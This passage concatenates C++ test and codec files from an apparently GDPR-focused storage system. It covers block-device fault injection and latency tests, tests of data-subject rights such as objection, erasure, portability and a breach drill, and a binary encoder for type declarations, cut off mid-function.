  Bytes b0 = BlockOf(512, 0);
  Bytes b1 = BlockOf(512, 0);
  std::copy(needle.begin(), needle.begin() + 4, b0.end() - 4);
  std::copy(needle.begin() + 4, needle.end(), b1.begin());
  ASSERT_TRUE(device.WriteBlock(0, b0).ok());
  ASSERT_TRUE(device.WriteBlock(1, b1).ok());
  EXPECT_GE(CountBlocksContaining(device, needle), 1u);
}

TEST(LatencyModelTest, AccumulatesSimulatedTime) {
  auto inner = std::make_unique<MemBlockDevice>(512, 8);
  LatencyModelDevice device(std::move(inner), LatencyProfile::Nvme());
  Bytes out;
  ASSERT_TRUE(device.WriteBlock(0, BlockOf(512, 1)).ok());
  ASSERT_TRUE(device.ReadBlock(0, out).ok());
  ASSERT_TRUE(device.Flush().ok());
  EXPECT_EQ(device.simulated_ns(), 20'000u + 10'000u + 50'000u);
  device.ResetSimulatedTime();
  EXPECT_EQ(device.simulated_ns(), 0u);
}

TEST(LatencyModelTest, HddIsSlowerThanNvme) {
  EXPECT_GT(LatencyProfile::Hdd().read_ns, LatencyProfile::Nvme().read_ns);
  EXPECT_GT(LatencyProfile::Hdd().write_ns, LatencyProfile::Nvme().write_ns);
}

TEST(TrafficRecorderTest, RemembersOverwrittenHistory) {
  auto inner = std::make_unique<MemBlockDevice>(512, 8);
  TrafficRecorder recorder(std::move(inner));
  const Bytes secret = ToBytes("TOPSECRET");
  Bytes block = BlockOf(512, 0);
  std::copy(secret.begin(), secret.end(), block.begin());
  ASSERT_TRUE(recorder.WriteBlock(0, block).ok());
  // Overwrite in place: the current medium no longer holds the secret...
  ASSERT_TRUE(recorder.WriteBlock(0, BlockOf(512, 0)).ok());
  EXPECT_EQ(CountBlocksContaining(recorder, secret), 0u);
  // ...but the write history still does: the Fig-2 observation.
  EXPECT_EQ(recorder.CountHistoricalWritesContaining(secret), 1u);
  EXPECT_EQ(recorder.history_bytes(), 1024u);
  recorder.ClearHistory();
  EXPECT_EQ(recorder.CountHistoricalWritesContaining(secret), 0u);
}

TEST(FileBlockDeviceTest, PersistsAcrossReopen) {
  const std::string path = ::testing::TempDir() + "/rgpd_fbd_test.img";
  std::remove(path.c_str());
  {
    auto device = FileBlockDevice::Open(path, 512, 16);
    ASSERT_TRUE(device.ok()) << device.status().ToString();
    ASSERT_TRUE((*device)->WriteBlock(5, BlockOf(512, 0x7E)).ok());
    ASSERT_TRUE((*device)->Flush().ok());
  }
  {
    auto device = FileBlockDevice::Open(path, 512, 16);
    ASSERT_TRUE(device.ok());
    Bytes out;
    ASSERT_TRUE((*device)->ReadBlock(5, out).ok());
    EXPECT_EQ(out, BlockOf(512, 0x7E));
    // Unwritten sparse block reads as zeros.
    ASSERT_TRUE((*device)->ReadBlock(9, out).ok());
    EXPECT_EQ(out, BlockOf(512, 0x00));
  }
  std::remove(path.c_str());
}

// ---- fault injection --------------------------------------------------------

TEST(FaultInjectionTest, CrashAtWriteNFailsThatAndAllLaterIo) {
  MemBlockDevice inner(512, 32);
  FaultPlan plan;
  plan.crash_at_write = 3;
  FaultInjectingBlockDevice fault(&inner, plan);

  ASSERT_TRUE(fault.WriteBlock(1, BlockOf(512, 0x11)).ok());
  ASSERT_TRUE(fault.WriteBlock(2, BlockOf(512, 0x22)).ok());
  EXPECT_EQ(fault.WriteBlock(3, BlockOf(512, 0x33)).code(),
            StatusCode::kCrashed);
  EXPECT_TRUE(fault.crashed());

  // Everything after the crash is rejected until a power cycle.
  Bytes out;
  EXPECT_EQ(fault.ReadBlock(1, out).code(), StatusCode::kCrashed);
  EXPECT_EQ(fault.WriteBlock(4, BlockOf(512, 0x44)).code(),
            StatusCode::kCrashed);
  EXPECT_EQ(fault.Flush().code(), StatusCode::kCrashed);
  EXPECT_GE(fault.fault_stats().crashed_rejections, 3u);

  // The medium keeps what was written before the crash; the crashing
  // write (torn_bytes = 0) left nothing.
  ASSERT_TRUE(inner.ReadBlock(1, out).ok());
  EXPECT_EQ(out, BlockOf(512, 0x11));
  ASSERT_TRUE(inner.ReadBlock(3, out).ok());
  EXPECT_EQ(out, BlockOf(512, 0x00));

  fault.PowerCycle();
  EXPECT_FALSE(fault.crashed());
  ASSERT_TRUE(fault.ReadBlock(1, out).ok());
  EXPECT_EQ(out, BlockOf(512, 0x11));
}

TEST(FaultInjectionTest, TornWritePersistsOnlyPrefix) {
  MemBlockDevice inner(512, 32);
  FaultPlan plan;
  plan.crash_at_write = 1;
  plan.torn_bytes = 100;
  FaultInjectingBlockDevice fault(&inner, plan);

  ASSERT_TRUE(inner.WriteBlock(5, BlockOf(512, 0xEE)).ok());
  EXPECT_EQ(fault.WriteBlock(5, BlockOf(512, 0x77)).code(),
            StatusCode::kCrashed);
  EXPECT_EQ(fault.fault_stats().torn_writes, 1u);

  // First 100 bytes are new, the rest keeps the old image.
  Bytes out;
  ASSERT_TRUE(inner.ReadBlock(5, out).ok());
  for (std::size_t i = 0; i < 512; ++i) {
    EXPECT_EQ(out[i], i < 100 ? 0x77 : 0xEE) << "byte " << i;
  }
}

TEST(FaultInjectionTest, WriteBackBufferDropsUnflushedOnCrash) {
  MemBlockDevice inner(512, 32);
  FaultPlan plan;
  plan.volatile_write_back = true;
  FaultInjectingBlockDevice fault(&inner, plan);

  // Unflushed write: visible through the device (read-your-writes), but
  // not yet on the medium.
  ASSERT_TRUE(fault.WriteBlock(1, BlockOf(512, 0x11)).ok());
  Bytes out;
  ASSERT_TRUE(fault.ReadBlock(1, out).ok());
  EXPECT_EQ(out, BlockOf(512, 0x11));
  ASSERT_TRUE(inner.ReadBlock(1, out).ok());
  EXPECT_EQ(out, BlockOf(512, 0x00));

  // Flush drains the buffer to the medium.
  ASSERT_TRUE(fault.Flush().ok());
  ASSERT_TRUE(inner.ReadBlock(1, out).ok());
  EXPECT_EQ(out, BlockOf(512, 0x11));

  // A post-flush write sits in the buffer again; the crash discards it.
  ASSERT_TRUE(fault.WriteBlock(2, BlockOf(512, 0x22)).ok());
  fault.Crash();
  EXPECT_EQ(fault.fault_stats().dropped_blocks, 1u);
  fault.PowerCycle();
  ASSERT_TRUE(fault.ReadBlock(2, out).ok());
  EXPECT_EQ(out, BlockOf(512, 0x00));  // lost: never flushed
  ASSERT_TRUE(fault.ReadBlock(1, out).ok());
  EXPECT_EQ(out, BlockOf(512, 0x11));  // survived: flushed before crash
}

TEST(FaultInjectionTest, TransientErrorsFailOnceThenSucceed) {
  MemBlockDevice inner(512, 32);
  FaultPlan plan;
  plan.transient_error_every = 3;
  FaultInjectingBlockDevice fault(&inner, plan);

  // IOs 1,2 fine; IO 3 fails once; the retry (IO counter advances past
  // the faulty index) succeeds.
  Bytes out;
  ASSERT_TRUE(fault.ReadBlock(0, out).ok());
  ASSERT_TRUE(fault.WriteBlock(1, BlockOf(512, 0x11)).ok());
  EXPECT_EQ(fault.WriteBlock(2, BlockOf(512, 0x22)).code(),
            StatusCode::kIoError);
  ASSERT_TRUE(fault.WriteBlock(2, BlockOf(512, 0x22)).ok());
  EXPECT_GE(fault.fault_stats().transient_errors, 1u);
  ASSERT_TRUE(inner.ReadBlock(2, out).ok());
  EXPECT_EQ(out, BlockOf(512, 0x22));
}

TEST(FaultInjectionTest, BitFlipCorruptsExactlyOneBit) {
  MemBlockDevice inner(512, 32);
  FaultPlan plan;
  plan.bit_flip_at_write = 2;
  plan.seed = 42;
  FaultInjectingBlockDevice fault(&inner, plan);

  ASSERT_TRUE(fault.WriteBlock(1, BlockOf(512, 0x00)).ok());
  ASSERT_TRUE(fault.WriteBlock(2, BlockOf(512, 0x00)).ok());  // flipped
  EXPECT_EQ(fault.fault_stats().bit_flips, 1u);

  Bytes out;
  ASSERT_TRUE(inner.ReadBlock(2, out).ok());
  int set_bits = 0;
  for (std::uint8_t byte : out) set_bits += __builtin_popcount(byte);
  EXPECT_EQ(set_bits, 1);
  ASSERT_TRUE(inner.ReadBlock(1, out).ok());
  EXPECT_EQ(out, BlockOf(512, 0x00));
}

TEST(FaultInjectionTest, FromSeedIsDeterministicAndBounded) {
  const FaultPlan a = FaultPlan::FromSeed(7, 100);
  const FaultPlan b = FaultPlan::FromSeed(7, 100);
  EXPECT_EQ(a.ToString(), b.ToString());
  EXPECT_GE(a.crash_at_write, 1u);
  EXPECT_LE(a.crash_at_write, 100u);
  EXPECT_EQ(a.bit_flip_at_write, 0u);  // excluded by design
  const FaultPlan c = FaultPlan::FromSeed(8, 100);
  EXPECT_NE(a.ToString(), c.ToString());
}

// ---- async ring -------------------------------------------------------------

TEST(AsyncBlockDeviceTest, ReadNeverOvertakesQueuedWrites) {
  MemBlockDevice inner(512, 64);
  AsyncBlockDevice dev(&inner, 4);
  // Fire-and-forget a chain of writes to the same block; the sync read
  // must drain the ring first and observe the LAST write, not a stale
  // intermediate image.
  for (std::uint8_t i = 1; i <= 5; ++i) {
    dev.Submit({AsyncBlockDevice::Op::Write(3, Bytes(512, i))});
  }
  Bytes out;
  ASSERT_TRUE(dev.ReadBlock(3, out).ok());
  EXPECT_EQ(out, Bytes(512, 5));
  const AsyncDeviceStats stats = dev.async_stats();
  EXPECT_EQ(stats.ops_submitted, 5u);
  EXPECT_EQ(stats.ops_completed, 5u);
}

TEST(AsyncBlockDeviceTest, WaitReturnsPerSubmissionStatus) {
  MemBlockDevice inner(512, 8);
  AsyncBlockDevice dev(&inner, 2);
  const auto ok_ticket =
      dev.Submit({AsyncBlockDevice::Op::Write(1, Bytes(512, 0xAB))});
  const auto bad_ticket =
      dev.Submit({AsyncBlockDevice::Op::Write(999, Bytes(512, 0xCD))});
  EXPECT_TRUE(dev.Wait(ok_ticket).ok());
  EXPECT_FALSE(dev.Wait(bad_ticket).ok());  // out of range inner write
  Bytes out;
  ASSERT_TRUE(dev.ReadBlock(1, out).ok());
  EXPECT_EQ(out, Bytes(512, 0xAB));
}

TEST(AsyncBlockDeviceTest, RedundantFlushBarriersAreCoalesced) {
  MemBlockDevice inner(512, 8);
  AsyncBlockDevice dev(&inner, 4);
  ASSERT_TRUE(dev.WriteBlock(0, Bytes(512, 1)).ok());
  ASSERT_TRUE(dev.Flush().ok());  // persists the write — real sync
  const std::uint64_t after_first = inner.stats().flushes;
  ASSERT_TRUE(dev.Flush().ok());  // nothing dirty — elided
  ASSERT_TRUE(dev.Flush().ok());  // still nothing — elided
  EXPECT_EQ(inner.stats().flushes, after_first);
  EXPECT_GE(dev.async_stats().coalesced_flushes, 2u);
  // A new write re-arms the barrier: the next flush must reach the device.
  ASSERT_TRUE(dev.WriteBlock(0, Bytes(512, 2)).ok());
  ASSERT_TRUE(dev.Flush().ok());
  EXPECT_EQ(inner.stats().flushes, after_first + 1);
}

TEST(AsyncBlockDeviceTest, BatchGoesThroughRingAsOneSubmission) {
  MemBlockDevice inner(512, 16);
  AsyncBlockDevice dev(&inner, 4);
  const std::uint64_t submissions_before = dev.async_stats().submissions;
  std::vector<Bytes> payloads;
  std::vector<BatchWrite> batch;
  for (std::uint8_t i = 0; i < 6; ++i) {
    payloads.push_back(Bytes(512, static_cast<std::uint8_t>(0x10 + i)));
    batch.push_back({static_cast<BlockIndex>(i),
                     ByteSpan(payloads.back().data(), payloads.back().size())});
  }
  ASSERT_TRUE(dev.WriteBatch(batch).ok());
  EXPECT_EQ(dev.async_stats().submissions, submissions_before + 1);
  for (std::uint8_t i = 0; i < 6; ++i) {
    Bytes out;
    ASSERT_TRUE(dev.ReadBlock(i, out).ok());
    EXPECT_EQ(out, Bytes(512, static_cast<std::uint8_t>(0x10 + i)));
  }
}

}  // namespace
}  // namespace rgpdos::blockdev
