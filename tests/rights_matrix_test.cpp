// The full rights matrix, end to end (PR 10): Art. 21 objection and
// Art. 22 automated-decision opt-out through the DED and every cache
// level, objection racing a live invoke, objection/erasure interleaving,
// import idempotence for the Art. 20 round trip, shard-count invariance
// of the whole matrix, the Art. 33 breach drill over the processing
// log, and the shared RFC 8259 JSON escaper.
#include <gtest/gtest.h>

#include <atomic>
#include <chrono>
#include <limits>
#include <condition_variable>
#include <memory>
#include <mutex>
#include <set>
#include <string>
#include <thread>
#include <vector>

#include "common/json.hpp"
#include "core/breach_drill.hpp"
#include "core/rgpdos.hpp"

namespace rgpdos {
namespace {

using core::ImplManifest;
using core::PdRef;
using core::ProcessingInput;
using core::ProcessingOutput;

constexpr sentinel::Domain kApp = sentinel::Domain::kApplication;
constexpr sentinel::Domain kDed = sentinel::Domain::kDed;

constexpr std::string_view kTypes = R"(
type user {
  fields { name: string, pwd: string, year_of_birthdate: int };
  view v_ano { year_of_birthdate };
  consent { purpose1: all, purpose3: v_ano };
  origin: subject;
  sensitivity: high;
}
type age {
  fields { value: int };
  consent { purpose1: all };
  origin: subject;
  sensitivity: low;
}
)";

class RightsMatrixTest : public ::testing::Test {
 protected:
  static std::unique_ptr<core::RgpdOs> BootWorld(std::size_t shards = 1,
                                                 unsigned workers = 1) {
    core::BootConfig config;
    config.seed = 7;
    config.shards = shards;
    config.worker_threads = workers;
    auto os = core::RgpdOs::Boot(config);
    EXPECT_TRUE(os.ok()) << os.status().ToString();
    std::unique_ptr<core::RgpdOs> world = std::move(os).value();
    EXPECT_TRUE(world->DeclareTypes(kTypes).ok());
    return world;
  }

  static dbfs::RecordId PutUser(core::RgpdOs& os, std::uint64_t subject,
                                const std::string& name) {
    auto type = os.dbfs().GetType(kDed, "user");
    membrane::Membrane m =
        (*type)->DefaultMembrane(subject, os.clock().Now());
    auto id = os.dbfs().Put(
        kDed, subject, "user",
        db::Row{db::Value(name), db::Value(std::string("pw")),
                db::Value(std::int64_t{1990})},
        std::move(m));
    EXPECT_TRUE(id.ok()) << id.status().ToString();
    return *id;
  }

  /// purpose3 over the anonymised view — the manual purpose.
  static core::ProcessingId RegisterPurpose3(
      core::RgpdOs& os, core::ProcessingFn fn = nullptr) {
    ImplManifest manifest;
    manifest.claimed_purpose = "purpose3";
    manifest.fields_read = {"year_of_birthdate"};
    if (!fn) {
      fn = [](ProcessingInput&) -> Result<ProcessingOutput> {
        return ProcessingOutput{};
      };
    }
    auto id = os.RegisterProcessingSource(
        "purpose purpose3 { input: user.v_ano; }", std::move(fn), manifest);
    EXPECT_TRUE(id.ok()) << id.status().ToString();
    return *id;
  }

  /// purpose1 declared `automated: true` — the Art. 22 target.
  static core::ProcessingId RegisterAutomatedPurpose1(core::RgpdOs& os) {
    ImplManifest manifest;
    manifest.claimed_purpose = "purpose1";
    manifest.fields_read = {"year_of_birthdate"};
    auto id = os.RegisterProcessingSource(
        "purpose purpose1 { input: user; automated: true; }",
        [](ProcessingInput&) -> Result<ProcessingOutput> {
          return ProcessingOutput{};
        },
        manifest);
    EXPECT_TRUE(id.ok()) << id.status().ToString();
    return *id;
  }

  static std::uint64_t Processed(core::RgpdOs& os,
                                 core::ProcessingId processing) {
    auto result = os.ps().Invoke(kApp, processing);
    EXPECT_TRUE(result.ok()) << result.status().ToString();
    if (!result.ok()) return std::numeric_limits<std::uint64_t>::max();
    return result->records_processed;
  }
};

// ---- Art. 21 end to end ---------------------------------------------------

TEST_F(RightsMatrixTest, ObjectionFiltersDespiteStandingConsent) {
  auto os = BootWorld();
  PutUser(*os, 1, "alice");
  PutUser(*os, 2, "bob");
  const auto processing = RegisterPurpose3(*os);
  ASSERT_EQ(Processed(*os, processing), 2u);

  ASSERT_TRUE(os->RightToObject(1, "purpose3").ok());
  EXPECT_EQ(Processed(*os, processing), 1u);  // only bob

  // Re-granting consent does NOT clear the objection (Art. 21 sticky):
  // the records still carry purpose3: v_ano consent, and we re-grant on
  // top of it for good measure.
  auto records = os->dbfs().RecordsOfSubject(kDed, 1);
  ASSERT_TRUE(records.ok());
  for (dbfs::RecordId id : *records) {
    ASSERT_TRUE(os->builtins()
                    .GrantConsent(PdRef{id, "user"}, "purpose3",
                                  membrane::Consent::ForView("v_ano"))
                    .ok());
  }
  EXPECT_EQ(Processed(*os, processing), 1u);

  // Only an explicit withdrawal restores processing.
  ASSERT_TRUE(os->WithdrawObjection(1, "purpose3").ok());
  EXPECT_EQ(Processed(*os, processing), 2u);

  // The whole exchange is in the Art. 30 record of processing.
  bool logged_objection = false;
  for (const auto& entry : os->processing_log().ForSubject(1)) {
    if (entry.outcome == core::LogOutcome::kObjected) {
      logged_objection = true;
    }
  }
  EXPECT_TRUE(logged_objection);
}

TEST_F(RightsMatrixTest, AutomatedDecisionOptOutBlocksOnlyAutomatedPurposes) {
  auto os = BootWorld();
  PutUser(*os, 1, "alice");
  const auto automated = RegisterAutomatedPurpose1(*os);
  const auto manual = RegisterPurpose3(*os);
  ASSERT_EQ(Processed(*os, automated), 1u);

  ASSERT_TRUE(os->OptOutAutomatedDecisions(1).ok());
  EXPECT_EQ(Processed(*os, automated), 0u);  // Art. 22 bites
  EXPECT_EQ(Processed(*os, manual), 1u);     // manual purpose untouched

  ASSERT_TRUE(os->OptOutAutomatedDecisions(1, false).ok());
  EXPECT_EQ(Processed(*os, automated), 1u);
}

// The stale-objection analogue of the stale-consent headline test: the
// objection lands mid-invoke over warm caches; every record decided
// after its ack must be filtered.
TEST_F(RightsMatrixTest, ObjectionMidInvokeIsNeverServedFromAnyCache) {
  auto os = BootWorld();
  for (int r = 0; r < 4; ++r) PutUser(*os, 1, "u");

  std::mutex mu;
  std::condition_variable cv;
  std::atomic<bool> armed{false};
  bool reached_execute = false;
  bool objection_done = false;
  const auto processing = RegisterPurpose3(
      *os, [&](ProcessingInput&) -> Result<ProcessingOutput> {
        if (armed.load(std::memory_order_acquire)) {
          std::unique_lock<std::mutex> lock(mu);
          if (!reached_execute) {
            reached_execute = true;
            cv.notify_all();
            cv.wait_for(lock, std::chrono::seconds(10),
                        [&] { return objection_done; });
          }
        }
        return ProcessingOutput{};
      });

  auto warm = os->ps().Invoke(kApp, processing);
  ASSERT_TRUE(warm.ok());
  ASSERT_EQ(warm->records_processed, 4u);

  armed.store(true, std::memory_order_release);
  std::thread invoker([&] {
    auto result = os->ps().Invoke(kApp, processing);
    ASSERT_TRUE(result.ok());
    // One record was already executing; the other three were decided
    // after the objection acked and must all be filtered.
    EXPECT_EQ(result->records_processed, 1u);
    EXPECT_EQ(result->records_filtered_out, 3u);
  });

  {
    std::unique_lock<std::mutex> lock(mu);
    ASSERT_TRUE(cv.wait_for(lock, std::chrono::seconds(10),
                            [&] { return reached_execute; }));
  }
  ASSERT_TRUE(os->RightToObject(1, "purpose3").ok());
  {
    std::lock_guard<std::mutex> lock(mu);
    objection_done = true;
  }
  cv.notify_all();
  invoker.join();

  auto settled = os->ps().Invoke(kApp, processing);
  ASSERT_TRUE(settled.ok());
  EXPECT_EQ(settled->records_processed, 0u);
  EXPECT_EQ(settled->records_filtered_out, 4u);
}

TEST_F(RightsMatrixTest, ObjectionAndErasureInterleave) {
  auto os = BootWorld();
  PutUser(*os, 1, "objector");
  PutUser(*os, 2, "eraser");
  PutUser(*os, 3, "bystander");
  const auto processing = RegisterPurpose3(*os);
  ASSERT_EQ(Processed(*os, processing), 3u);

  // Subject 1 objects, subject 2 is forgotten — both disappear from the
  // purpose's view, for different reasons, while 3 keeps processing.
  ASSERT_TRUE(os->RightToObject(1, "purpose3").ok());
  ASSERT_TRUE(os->RightToBeForgotten(2).ok());
  EXPECT_EQ(Processed(*os, processing), 1u);

  // Objection, then erasure of the SAME subject: both rights stack.
  ASSERT_TRUE(os->RightToBeForgotten(1).ok());
  EXPECT_EQ(Processed(*os, processing), 1u);

  // Withdrawal restores only the living: subject 3 objects and
  // withdraws; erased subjects stay gone no matter what.
  ASSERT_TRUE(os->RightToObject(3, "purpose3").ok());
  EXPECT_EQ(Processed(*os, processing), 0u);
  ASSERT_TRUE(os->WithdrawObjection(3, "purpose3").ok());
  EXPECT_EQ(Processed(*os, processing), 1u);
}

// ---- shard invariance -----------------------------------------------------

// The rights matrix is a per-subject contract; the number of storage
// shards behind the routing facade must be unobservable in its results.
TEST_F(RightsMatrixTest, RightsMatrixIsShardCountInvariant) {
  std::vector<std::uint64_t> processed_by_shards;
  std::vector<std::set<dbfs::SubjectId>> drilled_by_shards;
  for (const std::size_t shards : {std::size_t{1}, std::size_t{4}}) {
    auto os = BootWorld(shards);
    for (std::uint64_t s = 1; s <= 8; ++s) {
      PutUser(*os, s, "subject" + std::to_string(s));
    }
    const auto processing = RegisterPurpose3(*os);
    EXPECT_EQ(Processed(*os, processing), 8u);
    ASSERT_TRUE(os->RightToObject(2, "purpose3").ok());
    ASSERT_TRUE(os->RightToObject(5, "purpose3").ok());
    ASSERT_TRUE(os->OptOutAutomatedDecisions(7).ok());  // no-op for manual
    ASSERT_TRUE(os->RightToBeForgotten(3).ok());
    ASSERT_TRUE(os->WithdrawObjection(5, "purpose3").ok());
    processed_by_shards.push_back(Processed(*os, processing));

    auto drill = core::DrillCompromisedPurpose(os->processing_log(),
                                               "purpose3");
    ASSERT_TRUE(drill.ok()) << drill.status().ToString();
    EXPECT_TRUE(drill->chain_verified);
    drilled_by_shards.push_back(drill->subjects);
  }
  ASSERT_EQ(processed_by_shards.size(), 2u);
  EXPECT_EQ(processed_by_shards[0], 6u);  // 8 - objected(2) - erased(3)
  EXPECT_EQ(processed_by_shards[0], processed_by_shards[1]);
  EXPECT_EQ(drilled_by_shards[0], drilled_by_shards[1]);
}

// ---- Art. 33 drill over the processing log --------------------------------

TEST_F(RightsMatrixTest, BreachDrillAttributesOnlyPdFlowSubjects) {
  auto os = BootWorld();
  PutUser(*os, 1, "touched");
  PutUser(*os, 2, "objector");
  const auto processing = RegisterPurpose3(*os);
  ASSERT_TRUE(os->RightToObject(2, "purpose3").ok());
  ASSERT_EQ(Processed(*os, processing), 1u);

  auto drill = core::DrillCompromisedPurpose(os->processing_log(),
                                             "purpose3");
  ASSERT_TRUE(drill.ok()) << drill.status().ToString();
  EXPECT_TRUE(drill->chain_verified);
  // Subject 1's PD flowed; subject 2 was filtered by the objection and
  // never exposed — a correct Art. 33 notification lists only subject 1.
  EXPECT_EQ(drill->subjects, std::set<dbfs::SubjectId>{1});
  EXPECT_GT(drill->pd_touches, 0u);
  EXPECT_NE(drill->notification.find("Art.33"), std::string::npos);
  const std::string json = drill->ToJson();
  EXPECT_NE(json.find("\"purpose\":\"purpose3\""), std::string::npos);
  EXPECT_NE(json.find("\"chain_verified\":true"), std::string::npos);

  // A purpose that never ran has nothing to notify.
  auto clean = core::DrillCompromisedPurpose(os->processing_log(),
                                             "never_registered");
  ASSERT_TRUE(clean.ok());
  EXPECT_TRUE(clean->subjects.empty());
  EXPECT_EQ(clean->pd_touches, 0u);
}

// ---- Art. 20 import idempotence -------------------------------------------

TEST_F(RightsMatrixTest, ReimportingTheSameExportAddsNothing) {
  auto os = BootWorld();
  PutUser(*os, 9, "mover");
  PutUser(*os, 9, "mover_second_record");
  auto exported = os->dbfs().ExportSubject(kDed, 9);
  ASSERT_TRUE(exported.ok());

  auto other = BootWorld();
  auto first = other->rights().ImportSubject(*exported);
  ASSERT_TRUE(first.ok()) << first.status().ToString();
  EXPECT_EQ(*first, 2u);
  auto snapshot = other->RightToPortability(9);
  ASSERT_TRUE(snapshot.ok());

  // The same export again: zero new records, and the subject's
  // portability document is byte-identical — the receiving operator's
  // PD holdings did not change at all.
  auto second = other->rights().ImportSubject(*exported);
  ASSERT_TRUE(second.ok()) << second.status().ToString();
  EXPECT_EQ(*second, 0u);
  auto after = other->RightToPortability(9);
  ASSERT_TRUE(after.ok());
  EXPECT_EQ(*snapshot, *after);
  auto records = other->dbfs().RecordsOfSubject(kDed, 9);
  ASSERT_TRUE(records.ok());
  EXPECT_EQ(records->size(), 2u);
}

TEST_F(RightsMatrixTest, PortabilityRoundTripPreservesRowsAndConsents) {
  auto os = BootWorld();
  const dbfs::RecordId id = PutUser(*os, 9, "mover");
  // A non-default consent state must travel: objection + revocation.
  ASSERT_TRUE(os->RightToObject(9, "purpose3").ok());
  ASSERT_TRUE(
      os->builtins().RevokeConsent(PdRef{id, "user"}, "purpose1").ok());
  auto exported = os->dbfs().ExportSubject(kDed, 9);
  ASSERT_TRUE(exported.ok());

  auto other = BootWorld();
  ASSERT_TRUE(other->rights().ImportSubject(*exported).ok());
  auto records = other->dbfs().RecordsOfSubject(kDed, 9);
  ASSERT_TRUE(records.ok());
  ASSERT_EQ(records->size(), 1u);
  auto record = other->dbfs().Get(kDed, (*records)[0]);
  ASSERT_TRUE(record.ok());
  EXPECT_EQ(*record->row[0].AsString(), "mover");
  EXPECT_EQ(record->membrane.consents.at("purpose1").kind,
            membrane::ConsentKind::kNone);
  EXPECT_TRUE(record->membrane.ObjectedTo("purpose3"));

  // And the new operator ENFORCES the travelled objection: an invoke
  // there filters the imported record.
  const auto processing = RegisterPurpose3(*other);
  EXPECT_EQ(Processed(*other, processing), 0u);
}

// ---- the shared JSON escaper ----------------------------------------------

TEST(JsonEscapeTest, EscapesEveryControlCharPerRfc8259) {
  // RFC 8259 §7: U+0000..U+001F MUST be escaped. Exhaustively.
  for (int c = 0x00; c <= 0x1F; ++c) {
    const std::string in(1, static_cast<char>(c));
    const std::string out = JsonEscape(in);
    std::string expect;
    switch (c) {
      case '\n': expect = "\\n"; break;
      case '\r': expect = "\\r"; break;
      case '\t': expect = "\\t"; break;
      default: {
        static constexpr char kHex[] = "0123456789abcdef";
        expect = "\\u00";
        expect += kHex[(c >> 4) & 0xF];
        expect += kHex[c & 0xF];
      }
    }
    EXPECT_EQ(out, expect) << "control char 0x" << std::hex << c;
    for (const char byte : out) {
      EXPECT_GE(static_cast<unsigned char>(byte), 0x20u);
    }
  }
  EXPECT_EQ(JsonEscape("say \"hi\"\\now"), "say \\\"hi\\\"\\\\now");
  // Printable ASCII and UTF-8 multibyte sequences pass through.
  EXPECT_EQ(JsonEscape("plain text 123"), "plain text 123");
  EXPECT_EQ(JsonEscape("caf\xC3\xA9"), "caf\xC3\xA9");
  EXPECT_EQ(JsonEscape(""), "");
  // Embedded NUL mid-string does not truncate.
  EXPECT_EQ(JsonEscape(std::string_view("a\0b", 3)), "a\\u0000b");
}

}  // namespace
}  // namespace rgpdos
