// Binary persistence of type declarations — the content of the DBFS
// schema-tree inodes.
#pragma once

#include "common/bytes.hpp"
#include "dsl/ast.hpp"

namespace rgpdos::dsl {

[[nodiscard]] Bytes EncodeTypeDecl(const TypeDecl& decl);
Result<TypeDecl> DecodeTypeDecl(ByteSpan bytes);

[[nodiscard]] Bytes EncodePurposeDecl(const PurposeDecl& decl);
Result<PurposeDecl> DecodePurposeDecl(ByteSpan bytes);

}  // namespace rgpdos::dsl
