#include "dsl/codec.hpp"

namespace rgpdos::dsl {

Bytes EncodeTypeDecl(const TypeDecl& decl) {
  ByteWriter w;
  w.PutString(decl.name);
  w.PutVarint(decl.fields.size());
  for (const db::FieldDef& f : decl.fields) {
    w.PutString(f.name);
    w.PutU8(static_cast<std::uint8_t>(f.type));
    w.PutBool(f.nullable);
    std::uint8_t mask = 0;
    if (f.constraints.min_value) mask |= 1;
    if (f.constraints.max_value) mask |= 2;
    if (f.constraints.max_len) mask |= 4;
    if (f.constraints.not_empty) mask |= 8;
    w.PutU8(mask);
    if (f.constraints.min_value) w.PutI64(*f.constraints.min_value);
    if (f.constraints.max_value) w.PutI64(*f.constraints.max_value);
    if (f.constraints.max_len) w.PutU64(*f.constraints.max_len);
  }
  w.PutVarint(decl.views.size());
  for (const ViewDecl& v : decl.views) {
    w.PutString(v.name);
    w.PutVarint(v.fields.size());
    for (const std::string& f : v.fields) w.PutString(f);
  }
  w.PutVarint(decl.default_consents.size());
  for (const auto& [purpose, spec] : decl.default_consents) {
    w.PutString(purpose);
    w.PutU8(static_cast<std::uint8_t>(spec.kind));
    w.PutString(spec.view);
  }
  w.PutVarint(decl.collection.size());
  for (const membrane::CollectionInterface& c : decl.collection) {
    w.PutString(c.method);
    w.PutString(c.target);
  }
  w.PutU8(static_cast<std::uint8_t>(decl.origin));
  w.PutI64(decl.ttl);
  w.PutU8(static_cast<std::uint8_t>(decl.sensitivity));
  return w.Take();
}

Result<TypeDecl> DecodeTypeDecl(ByteSpan bytes) {
  ByteReader r(bytes);
  TypeDecl decl;
  RGPD_ASSIGN_OR_RETURN(decl.name, r.GetString());
  RGPD_ASSIGN_OR_RETURN(std::uint64_t field_count, r.GetVarint());
  for (std::uint64_t i = 0; i < field_count; ++i) {
    db::FieldDef f;
    RGPD_ASSIGN_OR_RETURN(f.name, r.GetString());
    RGPD_ASSIGN_OR_RETURN(std::uint8_t type, r.GetU8());
    f.type = static_cast<db::ValueType>(type);
    RGPD_ASSIGN_OR_RETURN(f.nullable, r.GetBool());
    RGPD_ASSIGN_OR_RETURN(std::uint8_t mask, r.GetU8());
    if (mask & 1) {
      RGPD_ASSIGN_OR_RETURN(std::int64_t v, r.GetI64());
      f.constraints.min_value = v;
    }
    if (mask & 2) {
      RGPD_ASSIGN_OR_RETURN(std::int64_t v, r.GetI64());
      f.constraints.max_value = v;
    }
    if (mask & 4) {
      RGPD_ASSIGN_OR_RETURN(std::uint64_t v, r.GetU64());
      f.constraints.max_len = v;
    }
    f.constraints.not_empty = (mask & 8) != 0;
    decl.fields.push_back(std::move(f));
  }
  RGPD_ASSIGN_OR_RETURN(std::uint64_t view_count, r.GetVarint());
  for (std::uint64_t i = 0; i < view_count; ++i) {
    ViewDecl v;
    RGPD_ASSIGN_OR_RETURN(v.name, r.GetString());
    RGPD_ASSIGN_OR_RETURN(std::uint64_t vf, r.GetVarint());
    for (std::uint64_t j = 0; j < vf; ++j) {
      RGPD_ASSIGN_OR_RETURN(std::string f, r.GetString());
      v.fields.push_back(std::move(f));
    }
    decl.views.push_back(std::move(v));
  }
  RGPD_ASSIGN_OR_RETURN(std::uint64_t consent_count, r.GetVarint());
  for (std::uint64_t i = 0; i < consent_count; ++i) {
